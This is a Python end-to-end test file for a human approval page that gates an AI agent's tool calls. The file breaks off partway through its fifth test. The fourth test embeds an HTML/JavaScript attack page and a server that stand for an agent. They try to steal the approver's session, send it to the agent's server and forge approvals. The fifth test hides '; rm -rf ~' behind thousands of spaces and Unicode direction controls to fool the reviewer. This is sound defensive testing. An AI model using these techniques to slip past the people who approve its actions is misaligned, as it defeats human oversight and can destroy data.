"""The approver's page (`GET /admin/`, DESIGN.md section 6) in a real browser: headless Chromium through Selenium.

An agent (the official MCP Python SDK's ClientSession, in a background thread) calls a tool whose policy entry says
`action: approve`; the call waits while a human decides on the page.

Signing in gives the page a random secret that it keeps in `sessionStorage` (scoped to scheme, host and port) and
sends as `X-Toolgate-Admin-Session`; no cookie is ever set, because a browser sends cookies to every port of a host,
where an agent may serve pages.

1. `test_sign_in_and_approve_with_javascript`: a wrong token is refused on the form; the right one signs in (no
   cookie, a 256-bit secret in sessionStorage); the pending call appears by the page's own refresh (the test never
   reloads), with its tool, grant and pretty-printed arguments, markup in them shown as text; screenshots are saved to
   Tests/e2e/artifacts/admin-page.png and admin-page-phone.png; at 390x844 the buttons fit the viewport; Approve lets
   the waiting call run the real tool at once.
2. `test_page_without_javascript_says_it_needs_it`.
3. `test_sign_out_revokes_the_secret`: after Sign out the secret the page held answers 401.
4. `test_a_page_on_another_port_cannot_decide`: the attack of issue 22, as it was found: the approver signs in, then
   opens a page an agent serves on another loopback port, which tries everything it can (cookies sent to it,
   `document.cookie`, credentialed fetches, form posts of a decision, the old cookie endpoints, `<img>`/`<iframe>` of
   the page, and the sidecar itself from the agent's server with whatever it captured). No approval is decided, and
   the agent receives no secret.
5. `test_invisible_characters_are_shown_as_escapes`: bidi controls, zero-width and other default-ignorable characters
   in the arguments show as highlighted `\\u202e`-style marks; long strings wrap; a long run of spaces is counted.
6. `test_the_page_lists_fifty_at_a_time`: 60 pending approvals, oldest first, 50 on the first page, 10 on the next.

Every test: every request the browser made on the sidecar's page went to the sidecar's own origin (the performance
log), the browser console has no SEVERE entry (a CSP violation is one), and the page carries a `default-src 'none'` CSP.

Chromium and chromedriver are Debian's (/usr/bin/chromium, /usr/bin/chromedriver); Selenium Manager never runs, and
the browser cannot resolve any host name but loopback addresses, so nothing is fetched from outside.
"""

from __future__ import annotations

import json
import os
import re
import secrets
import threading
import time
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, TypeVar

import httpx2
import pytest
from selenium import webdriver
from selenium.common.exceptions import StaleElementReferenceException, TimeoutException
from selenium.webdriver.chrome.service import Service
from selenium.webdriver.common.by import By
from selenium.webdriver.remote.webelement import WebElement
from selenium.webdriver.support.ui import WebDriverWait

from helpers import denial_of, handshake_session, run_async, text_of

E2E_DIR = Path(__file__).resolve().parent
ARTIFACTS = E2E_DIR / "artifacts"
CHROMIUM = "/usr/bin/chromium"
CHROMEDRIVER = "/usr/bin/chromedriver"

# upstream_mcp_server.py: transfer(amount: int, tag: str, force: bool, opts: dict) records what it ran with under
# `tag` (GET /_transfers), so a test sees the tool really ran, and with which arguments.
TOOL = "transfer"
GRANT = "default"  # no --grants: every caller is grant "default"
POLICY: dict[str, Any] = {
    "version": "1",
    "default": "deny",
    "tools": {TOOL: {"action": "approve", "approval": {"wait": "30s", "ttl": "1h"}}},
}
CARD_SECONDS = 8.0  # the page refreshes every 2 s; the SDK client's connect and handshake come first
DECIDED_SECONDS = 5.0  # a decision on this sidecar wakes the waiting call at once
PHONE = (390, 844)

T = TypeVar("T")

pytestmark = pytest.mark.timeout(90)


# ---------------------------------------------------------------------------------------------------------
# The agent: one SDK call in a background thread (Selenium is synchronous)


class AgentCall:
    """`session.call_tool(TOOL, arguments)` on its own session, event loop and thread."""

    def __init__(self, url: str, arguments: dict[str, Any]) -> None:
        self.url, self.arguments = url, arguments
        self.result: Any = None
        self.error: BaseException | None = None
        self.finished: float | None = None
        self._thread = threading.Thread(target=self._run, name=f"agent-{arguments.get('tag')}", daemon=True)
        self._thread.start()

    def _run(self) -> None:
        async def call() -> Any:
            async with handshake_session(self.url) as session:
                return await session.call_tool(TOOL, self.arguments)

        try:
            self.result = run_async(call, timeout=45.0)
        except BaseException as e:  # noqa: BLE001 - reported by wait()
            self.error = e
        finally:
            self.finished = time.monotonic()

    @property
    def done(self) -> bool:
        return not self._thread.is_alive()

    def wait(self, timeout: float) -> Any:
        self._thread.join(timeout)
        assert not self._thread.is_alive(), f"the agent's call did not finish within {timeout} s"
        if self.error is not None:
            raise AssertionError(f"the agent's call failed: {self.error!r}") from self.error
        return self.result


def transfers(upstream: Any, tag: str) -> list[dict[str, Any]]:
    """What the upstream's `transfer` ran with under `tag`."""
    response = httpx2.get(f"http://127.0.0.1:{upstream.port}/_transfers", timeout=5.0)
    response.raise_for_status()
    return response.json().get(tag, [])


def pending_approvals(base: str, token: str) -> list[dict[str, Any]]:
    response = httpx2.get(f"{base}/admin/approvals", headers={"Authorization": f"Bearer {token}"}, timeout=5.0)
    assert response.status_code == 200, (response.status_code, response.text)
    return [a for a in response.json()["approvals"] if a.get("state") == "pending"]


def pretty(arguments: dict[str, Any]) -> str:
    """The page's rendering: two-space indented JSON, keys in canonical (sorted) order."""
    return json.dumps(arguments, indent=2, sort_keys=True, ensure_ascii=False)


def new_arguments(amount: int) -> dict[str, Any]:
    """Arguments with a nested object, a list, and markup that must be shown as text, never rendered."""
    tag = f"<b>bold?</b> & <i>{uuid.uuid4().hex[:8]}</i>"
    return {
        "amount": amount,
        "tag": tag,
        "force": True,
        "opts": {"note": "<b>not bold</b>", "limits": {"currency": "EUR", "daily": 3}, "regions": ["eu-west", "us-east"]},
    }


# ---------------------------------------------------------------------------------------------------------
# The browser


class Browser:
    """One headless Chromium; keeps every performance (network) and console log entry it has produced."""

    def __init__(self, driver: webdriver.Chrome, origin: str) -> None:
        self.driver, self.origin = driver, origin
        self.network: list[dict[str, Any]] = []  # CDP Network.* events, in order
        self.console: list[dict[str, Any]] = []

    def drain(self) -> None:
        for entry in self.driver.get_log("performance"):
            message = json.loads(entry["message"])["message"]
            if message.get("method", "").startswith("Network."):
                self.network.append(message)
        self.console.extend(self.driver.get_log("browser"))

    def requested_urls(self) -> list[str]:
        self.drain()
        urls: list[str] = []
        for event in self.network:
            params = event.get("params", {})
            if event["method"] == "Network.requestWillBeSent":
                urls.append(params["request"]["url"])
            elif event["method"] == "Network.webSocketCreated":
                urls.append(params["url"])
        return urls

    def responses(self, path: str) -> list[dict[str, Any]]:
        """Every response (redirects included) to a URL on our origin with this path, in order."""
        self.drain()
        found: list[dict[str, Any]] = []
        for event in self.network:
            params = event.get("params", {})
            if event["method"] == "Network.requestWillBeSent" and params.get("redirectResponse"):
                response = params["redirectResponse"]
            elif event["method"] == "Network.responseReceived":
                response = params["response"]
            else:
                continue
            if response["url"].split("?")[0] == self.origin + path:
                found.append(response)
        return found

    def request_headers(self, path: str) -> list[dict[str, str]]:
        """The headers as sent (`requestWillBeSentExtraInfo`) of every request to this path on our origin."""
        self.drain()
        ids = {e["params"]["requestId"] for e in self.network if e["method"] == "Network.requestWillBeSent"
               and e["params"]["request"]["url"].split("?")[0] == self.origin + path}
        return [e["params"]["headers"] for e in self.network if e["method"] == "Network.requestWillBeSentExtraInfo"
                and e["params"]["requestId"] in ids]

    def severe_console(self) -> list[dict[str, Any]]:
        self.drain()
        return [e for e in self.console if e.get("level") == "SEVERE"]

    def assert_only_own_origin_and_clean_console(self, allowed_severe: Callable[[str], bool] = lambda m: False) -> None:
        urls = self.requested_urls()
        assert urls, "the performance log recorded no request at all: network logging is not working"
        foreign = [u for u in urls if not (u == self.origin or u.startswith(self.origin + "/"))]
        assert not foreign, f"the page made requests outside {self.origin}: {foreign}\nall requests: {urls}"
        blocked = [e["params"] for e in self.network if e["method"] == "Network.loadingFailed"
                   and e["params"].get("blockedReason")]
        assert not blocked, f"requests were blocked (CSP or otherwise): {blocked}"
        severe = [e for e in self.severe_console() if not allowed_severe(e.get("message", ""))]
        assert not severe, "the browser console has errors:\n" + "\n".join(e.get("message", "") for e in severe)

    def cards(self) -> list[WebElement]:
        return self.driver.find_elements(By.CSS_SELECTOR, "#list article.card")


def _chrome(tmp_path: Path, name: str, origin: str, *, javascript: bool) -> Browser:
    for path in (CHROMIUM, CHROMEDRIVER):
        if not os.access(path, os.X_OK):
            pytest.fail(f"{path} is missing: install Debian's chromium and chromium-driver (scripts/bootstrap.sh)",
                        pytrace=False)
    options = webdriver.ChromeOptions()
    options.binary_location = CHROMIUM
    for argument in (
        "--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--window-size=1280,900",
        f"--user-data-dir={tmp_path / f'chrome-{name}'}",
        "--no-first-run", "--no-default-browser-check", "--disable-background-networking", "--disable-component-update",
        "--disable-sync", "--disable-extensions", "--disable-default-apps", "--metrics-recording-only",
        "--disable-features=Translate,OptimizationHints,MediaRouter,InterestFeedContentSuggestions",
        # No host resolves but the sidecar's own address: nothing from outside could load even if asked.
        "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1",
    ):
        options.add_argument(argument)
    if not javascript:
        options.add_argument("--blink-settings=scriptEnabled=false")
        options.add_experimental_option("prefs", {"profile.managed_default_content_settings.javascript": 2})
    options.set_capability("goog:loggingPrefs", {"performance": "ALL", "browser": "ALL"})
    options.add_experimental_option("perfLoggingPrefs", {"enableNetwork": True, "enablePage": False})
    service = Service(executable_path=CHROMEDRIVER, log_output=str(tmp_path / f"chromedriver-{name}.log"))
    driver = webdriver.Chrome(service=service, options=options)
    driver.set_page_load_timeout(15)
    # The browser's own start page (chrome:// resources) is not the page under test: leave it, forget its log.
    driver.get("about:blank")
    browser = Browser(driver, origin)
    browser.drain()
    browser.network.clear()
    browser.console.clear()
    return browser


@pytest.fixture
def browsers(tmp_path: Path) -> Iterator[Callable[..., Browser]]:
    """Factory: `browsers(name, origin, javascript=True)` → a fresh headless Chromium, quit at the test's end."""
    started: list[Browser] = []

    def start(name: str, origin: str, *, javascript: bool = True) -> Browser:
        browser = _chrome(tmp_path, name, origin, javascript=javascript)
        started.append(browser)
        return browser

    yield start
    for browser in started:
        try:
            browser.driver.quit()
        except Exception:  # noqa: BLE001 - teardown of a browser that may have crashed
            pass


def retry_stale(fn: Callable[[], T], timeout: float = 5.0) -> T:
    """The script re-renders the list every 2 s: run `fn` again when an element it held was replaced meanwhile."""
    deadline = time.monotonic() + timeout
    while True:
        try:
            return fn()
        except StaleElementReferenceException:
            if time.monotonic() > deadline:
                raise
            time.sleep(0.05)


def wait_for(browser: Browser, what: str, condition: Callable[[], T | None], timeout: float) -> T:
    def probe(_: Any) -> T | None:
        try:
            return condition()
        except StaleElementReferenceException:
            return None

    try:
        return WebDriverWait(browser.driver, timeout, poll_frequency=0.1).until(probe)
    except TimeoutException:
        raise AssertionError(f"not within {timeout} s: {what}\ncurrent URL: {browser.driver.current_url}\n"
                             f"page:\n{browser.driver.find_element(By.TAG_NAME, 'body').text}") from None


def card_for(browser: Browser, tag: str) -> WebElement | None:
    for card in browser.cards():
        if tag in card.find_element(By.TAG_NAME, "pre").text:
            return card
    return None



def sign_in(browser: Browser, token: str) -> None:
    field = browser.driver.find_element(By.CSS_SELECTOR, "form#signin-form input#token")
    assert field.get_attribute("name") == "token" and field.get_attribute("type") == "password"
    field.clear()
    field.send_keys(token)
    browser.driver.find_element(By.CSS_SELECTOR, "form#signin-form button[type=submit]").click()


def session_secret(browser: Browser) -> str | None:
    return browser.driver.execute_script("return sessionStorage.getItem('toolgate-admin-session');")


def wait_signed_in(browser: Browser, token: str) -> str:
    """The list is shown, the page holds a fresh 256-bit secret, and no cookie was set."""
    driver = browser.driver
    wait_for(browser, "the list", lambda: driver.find_element(By.ID, "app").is_displayed() or None, 5)
    secret = session_secret(browser)
    assert secret and re.fullmatch(r"[0-9a-f]{64}", secret), secret
    assert token not in secret
    assert not driver.get_cookies(), f"signing in must set no cookie: {driver.get_cookies()}"
    assert driver.execute_script("return document.cookie;") == ""
    return secret


def assert_card(card: WebElement, arguments: dict[str, Any]) -> None:
    """Tool, grant, pretty-printed arguments (markup as text), expiry, and both buttons."""
    assert card.find_element(By.CSS_SELECTOR, "h2 .tool").text == TOOL
    assert card.find_element(By.CSS_SELECTOR, "h2 .grant").text == f"for {GRANT}"
    pre = card.find_element(By.TAG_NAME, "pre")
    assert pre.get_attribute("textContent") == pretty(arguments), pre.get_attribute("textContent")
    # Escaped: the literal `<b>` is text, and no element was made of it.
    assert "<b>not bold</b>" in pre.text
    assert not card.find_elements(By.CSS_SELECTOR, "b, i"), card.get_attribute("innerHTML")
    assert "&lt;b&gt;" in pre.get_attribute("innerHTML")
    meta = card.find_element(By.CSS_SELECTOR, "p.meta").text
    assert re.match(r"^approval expires in (59 min|1 h 0 min) · \S+$", meta), meta
    # The agent's own wait (30 s) is shown apart from the approval's life (1 h).
    wait = card.find_element(By.CSS_SELECTOR, "p.wait").text
    assert re.fullmatch(r"The agent is waiting: ([12]?\d) s left\.", wait), wait
    for cls, label in (("approve", "Approve"), ("deny", "Deny")):
        button = card.find_element(By.CSS_SELECTOR, f".actions button.{cls}")
        assert (button.text, button.get_attribute("name"), button.get_attribute("value")) == (label, "decision", cls)


def assert_csp(browser: Browser) -> None:
    documents = [r for r in browser.responses("/admin/") if r.get("status") == 200]
    assert documents, "no 200 response for /admin/ in the performance log"
    for response in documents:
        headers = {k.lower(): v for k, v in response.get("headers", {}).items()}
        assert "default-src 'none'" in headers.get("content-security-policy", ""), headers


def save_screenshot(browser: Browser, name: str, record_property: Callable[[str, Any], None]) -> Path:
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    path = ARTIFACTS / name
    assert browser.driver.save_screenshot(str(path)), f"could not save {path}"
    assert path.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n", f"{path} is not a PNG"
    print(f"screenshot of the approvals page: {path}")
    record_property(f"screenshot {name}", str(path))
    return path


def token_file(tmp_path: Path) -> tuple[Path, str]:
    token = secrets.token_urlsafe(32)  # 43 characters
    path = tmp_path / "admin.token"
    path.write_text(token + "\n")
    return path, token


def refused_sign_in(origin: str) -> Callable[[str], bool]:
    """The one console error a wrong token may cause: Chrome reports the sign-in fetch's deliberate 401."""
    return lambda message: message.startswith(f"{origin}/admin/session ") and "status of 401" in message


# ---------------------------------------------------------------------------------------------------------
# 1. Sign in, the call appears by itself, Approve; phone-sized layout


def test_sign_in_and_approve_with_javascript(toolgate, mcp_upstream_json, browsers, tmp_path, record_property):
    admin_file, token = token_file(tmp_path)
    tg = toolgate(mcp_upstream_json.url, POLICY, args=["--admin-token-file", str(admin_file)])
    browser = browsers("js", tg.base)
    driver = browser.driver

    # The sign-in form; a wrong token is refused on the form itself.
    driver.get(f"{tg.base}/admin/")
    assert driver.title == "toolgate approvals"
    wait_for(browser, "the sign-in form", lambda: driver.find_element(By.ID, "signin").is_displayed() or None, 5)
    assert not driver.find_element(By.ID, "app").is_displayed()
    sign_in(browser, "x" * 43)
    error = wait_for(browser, "the wrong token's error", lambda: driver.find_element(By.ID, "signin-error").text or None, 5)
    assert error == "That is not the admin token.", error
    assert driver.find_element(By.ID, "token").is_displayed(), "the sign-in form must be shown again"
    assert not driver.get_cookies(), driver.get_cookies()
    assert session_secret(browser) is None
    browser.drain()
    wrong_token_errors = [e for e in browser.console if e.get("level") == "SEVERE"]
    assert all(refused_sign_in(tg.base)(e["message"]) for e in wrong_token_errors), wrong_token_errors
    browser.console.clear()

    # The right token: the (empty) list.
    sign_in(browser, token)
    secret = wait_signed_in(browser, token)
    assert driver.current_url == f"{tg.base}/admin/", driver.current_url
    wait_for(browser, "the empty list", lambda: driver.find_elements(By.CSS_SELECTOR, "#list p.empty"), 5)
    assert driver.find_element(By.CSS_SELECTOR, "#list p.empty").text == "No approvals are waiting."
    # Every list request carried the secret as a header, and no cookie.
    sent = wait_for(browser, "a list request", lambda: browser.request_headers("/admin/approvals") or None, 5)
    for headers in sent:
        lowered = {k.lower(): v for k, v in headers.items()}
        assert lowered.get("x-toolgate-admin-session") == secret, headers
        assert "cookie" not in lowered, headers

    # A reload of the tab keeps the sign-in (sessionStorage lives as long as the tab).
    driver.refresh()
    wait_for(browser, "the list after a reload", lambda: driver.find_element(By.ID, "app").is_displayed() or None, 5)
    assert session_secret(browser) == secret

    # The agent calls; the page shows it by its own refresh (the marker survives: no navigation happened).
    driver.execute_script("window.e2eMarker = 'same document';")
    arguments = new_arguments(7)
    tag = arguments["tag"]
    call = AgentCall(tg.url, arguments)
    wait_for(browser, "the pending call's card", lambda: card_for(browser, tag), CARD_SECONDS)
    assert driver.execute_script("return window.e2eMarker;") == "same document", "the page was reloaded"
    assert not call.done, f"the call should be waiting for a decision: {call.result!r} {call.error!r}"
    retry_stale(lambda: assert_card(card_for(browser, tag), arguments))
    approval_id = retry_stale(lambda: card_for(browser, tag).get_attribute("data-id"))
    assert [a["id"] for a in pending_approvals(tg.base, token)] == [approval_id]
    save_screenshot(browser, "admin-page.png", record_property)

    # A phone: the buttons are shown, inside the viewport, and nothing scrolls sideways.
    width, height = PHONE
    driver.execute_cdp_cmd("Emulation.setDeviceMetricsOverride",
                           {"width": width, "height": height, "deviceScaleFactor": 2, "mobile": True})
    try:
        wait_for(browser, "the phone-sized viewport",
                 lambda: driver.execute_script("return document.documentElement.clientWidth;") == width, 5)

        def buttons_fit() -> None:
            card = card_for(browser, tag)
            assert card is not None
            for cls in ("approve", "deny"):
                button = card.find_element(By.CSS_SELECTOR, f"button.{cls}")
                driver.execute_script("arguments[0].scrollIntoView({block: 'center'});", button)
                assert button.is_displayed(), cls
                rect = driver.execute_script("var r = arguments[0].getBoundingClientRect();"
                                             "return [r.left, r.right, r.width, r.height];", button)
                left, right, w, h = rect
                assert w > 40 and h > 20, (cls, rect)
                assert 0 <= left and right <= width, f"the {cls} button overflows a {width} px viewport: {rect}"
            scroll_width = driver.execute_script("return document.documentElement.scrollWidth;")
            assert scroll_width <= width, f"the page scrolls sideways at {width} px: scrollWidth {scroll_width}"

        retry_stale(buttons_fit)
        driver.execute_script("window.scrollTo(0, 0);")
        save_screenshot(browser, "admin-page-phone.png", record_property)
    finally:
        driver.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})

    # Approve: the waiting call runs the real tool at once; the page says what was decided.
    retry_stale(lambda: card_for(browser, tag).find_element(By.CSS_SELECTOR, "button.approve").click())
    clicked = time.monotonic()
    result = call.wait(DECIDED_SECONDS + 5)
    assert call.finished is not None and call.finished - clicked < DECIDED_SECONDS, call.finished - clicked
    assert result.is_error is False, f"the approved call was not run: {result!r}"
    assert text_of(result).startswith("transferred 7 (force=True, opts="), text_of(result)
    assert transfers(mcp_upstream_json, tag) == [{"amount": 7, "force": True, "opts": arguments["opts"]}]
    notice = wait_for(browser, "the notice", lambda: driver.find_element(By.ID, "notice").text or None, 5)
    assert notice == f"{TOOL} for {GRANT}: approved", notice
    # The call used the approval: its card goes at the next refresh.
    wait_for(browser, "the used approval's card to go", lambda: card_for(browser, tag) is None, 5)
    assert driver.execute_script("return window.e2eMarker;") == "same document", "the page was reloaded"
    decisions = browser.responses(f"/admin/approvals/{approval_id}")
    assert [r["status"] for r in decisions] == [200], decisions
    assert not driver.get_cookies(), driver.get_cookies()

    assert_csp(browser)
    browser.assert_only_own_origin_and_clean_console()


# ---------------------------------------------------------------------------------------------------------
# 2. Without JavaScript the page says it needs it


def test_page_without_javascript_says_it_needs_it(toolgate, mcp_upstream_json, browsers, tmp_path):
    admin_file, _ = token_file(tmp_path)
    tg = toolgate(mcp_upstream_json.url, POLICY, args=["--admin-token-file", str(admin_file)])
    browser = browsers("nojs", tg.base, javascript=False)
    driver = browser.driver
    driver.get(f"{tg.base}/admin/")
    message = driver.find_element(By.ID, "needs-javascript")
    assert message.is_displayed() and "needs JavaScript" in message.text, message.text
    assert not driver.find_element(By.ID, "signin").is_displayed()
    assert not driver.find_element(By.ID, "app").is_displayed()
    time.sleep(2.5)  # the script's 2-second refresh would have run by now, were scripts on
    assert not browser.responses("/admin/approvals"), "the page's script ran although JavaScript is disabled"
    assert_csp(browser)
    browser.assert_only_own_origin_and_clean_console()


# ---------------------------------------------------------------------------------------------------------
# 3. Sign out revokes


def test_sign_out_revokes_the_secret(toolgate, mcp_upstream_json, browsers, tmp_path):
    admin_file, token = token_file(tmp_path)
    tg = toolgate(mcp_upstream_json.url, POLICY, args=["--admin-token-file", str(admin_file)])
    browser = browsers("signout", tg.base)
    driver = browser.driver
    driver.get(f"{tg.base}/admin/")
    sign_in(browser, token)
    secret = wait_signed_in(browser, token)
    header = {"X-Toolgate-Admin-Session": secret}
    assert httpx2.get(f"{tg.base}/admin/approvals", headers=header, timeout=5.0).status_code == 200

    driver.find_element(By.ID, "signout").click()
    wait_for(browser, "the sign-in form", lambda: driver.find_element(By.ID, "signin").is_displayed() or None, 5)
    assert session_secret(browser) is None
    answers = browser.responses("/admin/session")
    assert [r["status"] for r in answers] == [200, 204], answers  # signed in, signed out
    # The secret the page held no longer opens anything, for anyone.
    response = httpx2.get(f"{tg.base}/admin/approvals", headers=header, timeout=5.0)
    assert response.status_code == 401, (response.status_code, response.text)
    response = httpx2.request("DELETE", f"{tg.base}/admin/session", headers=header, timeout=5.0)
    assert response.status_code == 401, (response.status_code, response.text)
    assert not driver.get_cookies(), driver.get_cookies()
    browser.assert_only_own_origin_and_clean_console()


# ---------------------------------------------------------------------------------------------------------
# 4. A page an agent serves on another port of the same host


ATTACK_PAGE = """<!doctype html><html><head><meta charset="utf-8"><title>preview</title></head><body>
<p>a harmless preview</p>
<img src="SIDECAR/admin/" alt="">
<iframe id="frame" src="SIDECAR/admin/"></iframe>
<iframe name="sink" id="sink"></iframe>
<form id="f1" method="post" action="SIDECAR/admin/approvals/APPROVAL" enctype="text/plain" target="sink">
<input type="hidden" name='{"decision":"approve","x":"' value='"}'></form>
<form id="f2" method="post" action="SIDECAR/admin/decide" target="sink">
<input type="hidden" name="id" value="APPROVAL"><input type="hidden" name="decision" value="approve">
<input type="hidden" name="csrf" value=""></form>
<script>
(async function () {
  var sidecar = 'SIDECAR', id = 'APPROVAL', found = {};
  function report(what, value) {
    found[what] = value;
    return fetch('/admin/report', { method: 'POST', body: JSON.stringify([what, String(value)]) }).catch(function () {});
  }
  await report('document.cookie', document.cookie);
  await report('sessionStorage', JSON.stringify(Object.assign({}, sessionStorage)));
  await report('localStorage', JSON.stringify(Object.assign({}, localStorage)));
  async function attempt(what, url, init) {
    try {
      var r = await fetch(url, init);
      var text = '';
      try { text = await r.text(); } catch (e) {}
      await report(what, r.type + ' ' + r.status + ' ' + text.slice(0, 2000));
    } catch (e) { await report(what, 'failed: ' + e); }
  }
  await attempt('list, credentials', sidecar + '/admin/approvals', { credentials: 'include' });
  await attempt('list, no-cors', sidecar + '/admin/approvals', { credentials: 'include', mode: 'no-cors' });
  await attempt('page, credentials', sidecar + '/admin/', { credentials: 'include' });
  await attempt('approve, json', sidecar + '/admin/approvals/' + id,
    { method: 'POST', credentials: 'include', headers: { 'Content-Type': 'application/json' }, body: '{"decision":"approve"}' });
  await attempt('approve, no-cors', sidecar + '/admin/approvals/' + id,
    { method: 'POST', credentials: 'include', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body: '{"decision":"approve"}' });
  await attempt('decide, no-cors', sidecar + '/admin/decide',
    { method: 'POST', credentials: 'include', mode: 'no-cors', body: new URLSearchParams({ id: id, decision: 'approve' }) });
  try { await report('frame', document.getElementById('frame').contentWindow.sessionStorage.getItem('toolgate-admin-session')); }
  catch (e) { await report('frame', 'blocked: ' + e.name); }
  document.getElementById('f1').submit();
  await new Promise(function (r) { setTimeout(r, 300); });
  document.getElementById('f2').submit();
  await new Promise(function (r) { setTimeout(r, 300); });
  await report('done', 'yes');
})();
</script></body></html>"""


class AttackerServer:
    """The agent's own HTTP server on another loopback port: serves the page above at /admin/preview (under /admin,
    so a cookie with Path=/admin would come along), records every request it gets (headers and bodies), and, as an
    agent would, tries the sidecar itself with every cookie it was sent."""

    def __init__(self, sidecar: str, approval_id: str) -> None:
        import http.server

        self.sidecar, self.approval_id = sidecar, approval_id
        self.requests: list[dict[str, Any]] = []
        self.replays: list[tuple[str, int, str]] = []
        attacker = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:  # quiet
                pass

            def _record(self) -> bytes:
                length = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(length) if length else b""
                attacker.requests.append({"method": self.command, "path": self.path, "headers": dict(self.headers.items()),
                                          "body": body.decode("utf-8", "replace")})
                if self.headers.get("Cookie"):
                    attacker.replay(self.headers["Cookie"])
                return body

            def do_GET(self) -> None:
                self._record()
                page = ATTACK_PAGE.replace("SIDECAR", attacker.sidecar).replace("APPROVAL", attacker.approval_id).encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(page)))
                self.end_headers()
                self.wfile.write(page)

            def do_POST(self) -> None:
                self._record()
                self.send_response(204)
                self.end_headers()

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    @property
    def origin(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def replay(self, cookie: str) -> None:
        """What the agent of issue 22 did with the approver's cookie: load the page, take its CSRF value, decide."""
        with httpx2.Client(timeout=5.0) as http:
            page = http.get(f"{self.sidecar}/admin/", headers={"Cookie": cookie})
            self.replays.append(("GET /admin/", page.status_code, page.text[:200]))
            csrf = re.search(r'name="csrf" value="([0-9a-f]+)"', page.text)
            form = {"id": self.approval_id, "decision": "approve", "csrf": csrf.group(1) if csrf else ""}
            answer = http.post(f"{self.sidecar}/admin/decide", data=form,
                               headers={"Cookie": cookie, "X-Toolgate-CSRF": form["csrf"]})
            self.replays.append(("POST /admin/decide", answer.status_code, answer.text[:200]))
            answer = http.post(f"{self.sidecar}/admin/approvals/{self.approval_id}", json={"decision": "approve"},
                               headers={"Cookie": cookie})
            self.replays.append(("POST /admin/approvals/ID", answer.status_code, answer.text[:200]))

    def reports(self) -> dict[str, str]:
        found: dict[str, str] = {}
        for r in self.requests:
            if r["method"] == "POST" and r["path"] == "/admin/report":
                what, value = json.loads(r["body"])
                found[what] = value
        return found

    def everything_received(self) -> str:
        return json.dumps(self.requests)

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def test_a_page_on_another_port_cannot_decide(toolgate, mcp_upstream_json, browsers, tmp_path):
    admin_file, token = token_file(tmp_path)
    tg = toolgate(mcp_upstream_json.url, POLICY, args=["--admin-token-file", str(admin_file)])
    arguments = new_arguments(11)
    call = AgentCall(tg.url, arguments)
    deadline = time.monotonic() + CARD_SECONDS
    while not (pending := pending_approvals(tg.base, token)) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert len(pending) == 1, pending
    approval_id = pending[0]["id"]

    # The approver signs in and sees the call.
    browser = browsers("victim", tg.base)
    driver = browser.driver
    driver.get(f"{tg.base}/admin/")
    sign_in(browser, token)
    secret = wait_signed_in(browser, token)
    wait_for(browser, "the pending call's card", lambda: card_for(browser, arguments["tag"]), CARD_SECONDS)
    admin_tab = driver.current_window_handle

    # Then opens the agent's "preview" in another tab of the same browser.
    attacker = AttackerServer(tg.base, approval_id)
    try:
        driver.switch_to.new_window("tab")
        driver.get(f"{attacker.origin}/admin/preview")
        deadline = time.monotonic() + 20
        while "done" not in attacker.reports() and time.monotonic() < deadline:
            time.sleep(0.1)
        reports = attacker.reports()
        assert reports.get("done") == "yes", f"the attack page did not run to its end: {reports}"
        time.sleep(1.0)  # the forms' posts and any replay settle (they are answered at once)
        received = attacker.everything_received()

        # The agent got nothing that opens /admin: no cookie, no secret, no token, in any request it received.
        assert secret not in received and token not in received, received
        assert not [r for r in attacker.requests if "Cookie" in r["headers"]], attacker.requests
        assert reports["document.cookie"] == "", reports
        assert secret not in reports["sessionStorage"] and reports["sessionStorage"] == "{}", reports
        assert not reports["frame"].startswith(secret), reports
        for what in ("list, credentials", "page, credentials", "approve, json"):
            assert reports[what].startswith("failed"), (what, reports[what])  # CORS: nothing readable
        assert attacker.replays == [], f"the agent's server got a cookie to replay: {attacker.replays}"
    finally:
        attacker.close()

    # Nothing was decided: the approval is still pending, and the call still waits.
    assert [(a["id"], a["state"]) for a in pending_approvals(tg.base, token)] == [(approval_id, "pending")]
    assert not call.done, f"the call should still be waiting: {call.result!r} {call.error!r}"
    assert transfers(mcp_upstream_json, arguments["tag"]) == []

    # The approver's own tab still works: Deny from it.
    driver.switch_to.window(admin_tab)
    retry_stale(lambda: card_for(browser, arguments["tag"]).find_element(By.CSS_SELECTOR, "button.deny").click())
    result = call.wait(DECIDED_SECONDS + 5)
    assert denial_of(result).get("reason") == "approval_denied", result
    assert not driver.get_cookies(), driver.get_cookies()


# ---------------------------------------------------------------------------------------------------------
# 5. What the approver sees is what is approved


def test_invisible_characters_are_shown_as_escapes(toolgate, mcp_upstream_json, browsers, tmp_path, record_property):
    admin_file, token = token_file(tmp_path)
    policy = {"version": "1", "default": "deny",
              "tools": {TOOL: {"action": "approve", "approval": {"wait": "0s", "ttl": "1h"}}}}
    tg = toolgate(mcp_upstream_json.url, policy, args=["--admin-token-file", str(admin_file)])
    invisible = {
        "\u202e": "\\u202e", "\u2066": "\\u2066", "\u2069": "\\u2069", "\u200b": "\\u200b", "\u200e": "\\u200e",
        "\u061c": "\\u061c", "\ufeff": "\\ufeff", "\u00ad": "\\u00ad", "\u2060": "\\u2060", "\u3164": "\\u3164",
        "\U000e0041": "\\u{e0041}", "\u0007": "\\u0007", "\n": "\\n", "\u00a0": "\\u00a0",
    }
    disguised = "echo safe \u202e~ fr- mr\u202c \u2066x\u2069 a\u200bb\u200e \u061c\ufeff\u00ad\u2060\u3164\U000e0041\u0007\n\u00a0"
    spaces = "ls" + " " * 3000 + "; rm -rf ~"
    long_word = "A" * 5000 + "TAIL"
    arguments = {"amount": 1, "tag": disguised, "force": False, "opts": {"spaces": spaces, "long": long_word}}

